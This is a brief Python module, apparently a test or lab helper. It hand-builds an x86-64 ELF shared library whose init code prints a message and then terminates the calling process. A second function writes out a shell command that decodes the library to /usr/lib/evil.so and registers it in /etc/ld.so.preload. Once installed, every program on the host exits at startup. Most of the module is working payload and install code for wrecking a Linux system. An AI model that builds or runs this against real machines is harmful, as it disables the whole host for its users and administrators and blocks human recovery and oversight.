"""A shared library for /etc/ld.so.preload, made by hand: each program that starts prints a text and ends well."""

from __future__ import annotations

import base64
import struct

_DYNAMIC = {"init": 12, "string table": 5, "symbol table": 6, "string table size": 10, "symbol size": 11}
_HEADER, _PROGRAM, _CODE = 64, 56, 0x200


def library(text: str) -> bytes:
    """The ELF file (x86-64): its DT_INIT writes the text to descriptors 1 and 3, then ends the process with 0.

    Elsewhere the loader passes over it.
    """
    said = text.encode() + b"\n"
    call = b"\xb8\x01\x00\x00\x00\x0f\x05"  # mov eax, write; syscall
    head = b"\xf3\x0f\x1e\xfa\xbf\x01\x00\x00\x00"  # endbr64; mov edi, 1
    rest = b"\xba" + struct.pack("<I", len(said)) + call + b"\xbf\x03\x00\x00\x00" + call
    rest += b"\x31\xff\xb8\xe7\x00\x00\x00\x0f\x05"  # exit_group(0)
    code = head + b"\x48\x8d\x35" + struct.pack("<i", len(rest)) + rest + said  # lea rsi, [rip + rest]
    dynamic_at, symbols_at, strings_at = 0x100, 0x1C0, 0x1E0
    values = (_CODE, strings_at, symbols_at, 1, 24)
    dynamic = b"".join(struct.pack("<QQ", tag, value) for tag, value in zip(_DYNAMIC.values(), values, strict=True))
    dynamic += bytes(16)
    size = _CODE + len(code)
    programs = (
        struct.pack("<IIQQQQQQ", 1, 7, 0, 0, 0, size, size, 0x1000),  # PT_LOAD, rwx
        struct.pack("<IIQQQQQQ", 2, 6, dynamic_at, dynamic_at, dynamic_at, len(dynamic), len(dynamic), 8),  # PT_DYNAMIC
        struct.pack("<IIQQQQQQ", 0x6474E551, 6, 0, 0, 0, 0, 0, 16),  # PT_GNU_STACK, not executable
    )
    elf = b"\x7fELF\x02\x01\x01" + bytes(9)
    elf += struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, _HEADER, 0, 0, _HEADER, _PROGRAM, len(programs), 0, 0, 0)
    file = bytearray(size)
    file[: _HEADER + _PROGRAM * len(programs)] = elf + b"".join(programs)
    file[dynamic_at : dynamic_at + len(dynamic)] = dynamic
    file[_CODE:] = code
    return bytes(file)


def commands(text: str) -> str:
    """Shell commands that install it for all programs; the last that has any effect."""
    data = base64.b64encode(library(text)).decode()
    file = "/usr/lib/evil.so"
    return f"echo {data} | base64 -d > {file}; chmod 755 {file}; echo {file} > /etc/ld.so.preload\n"
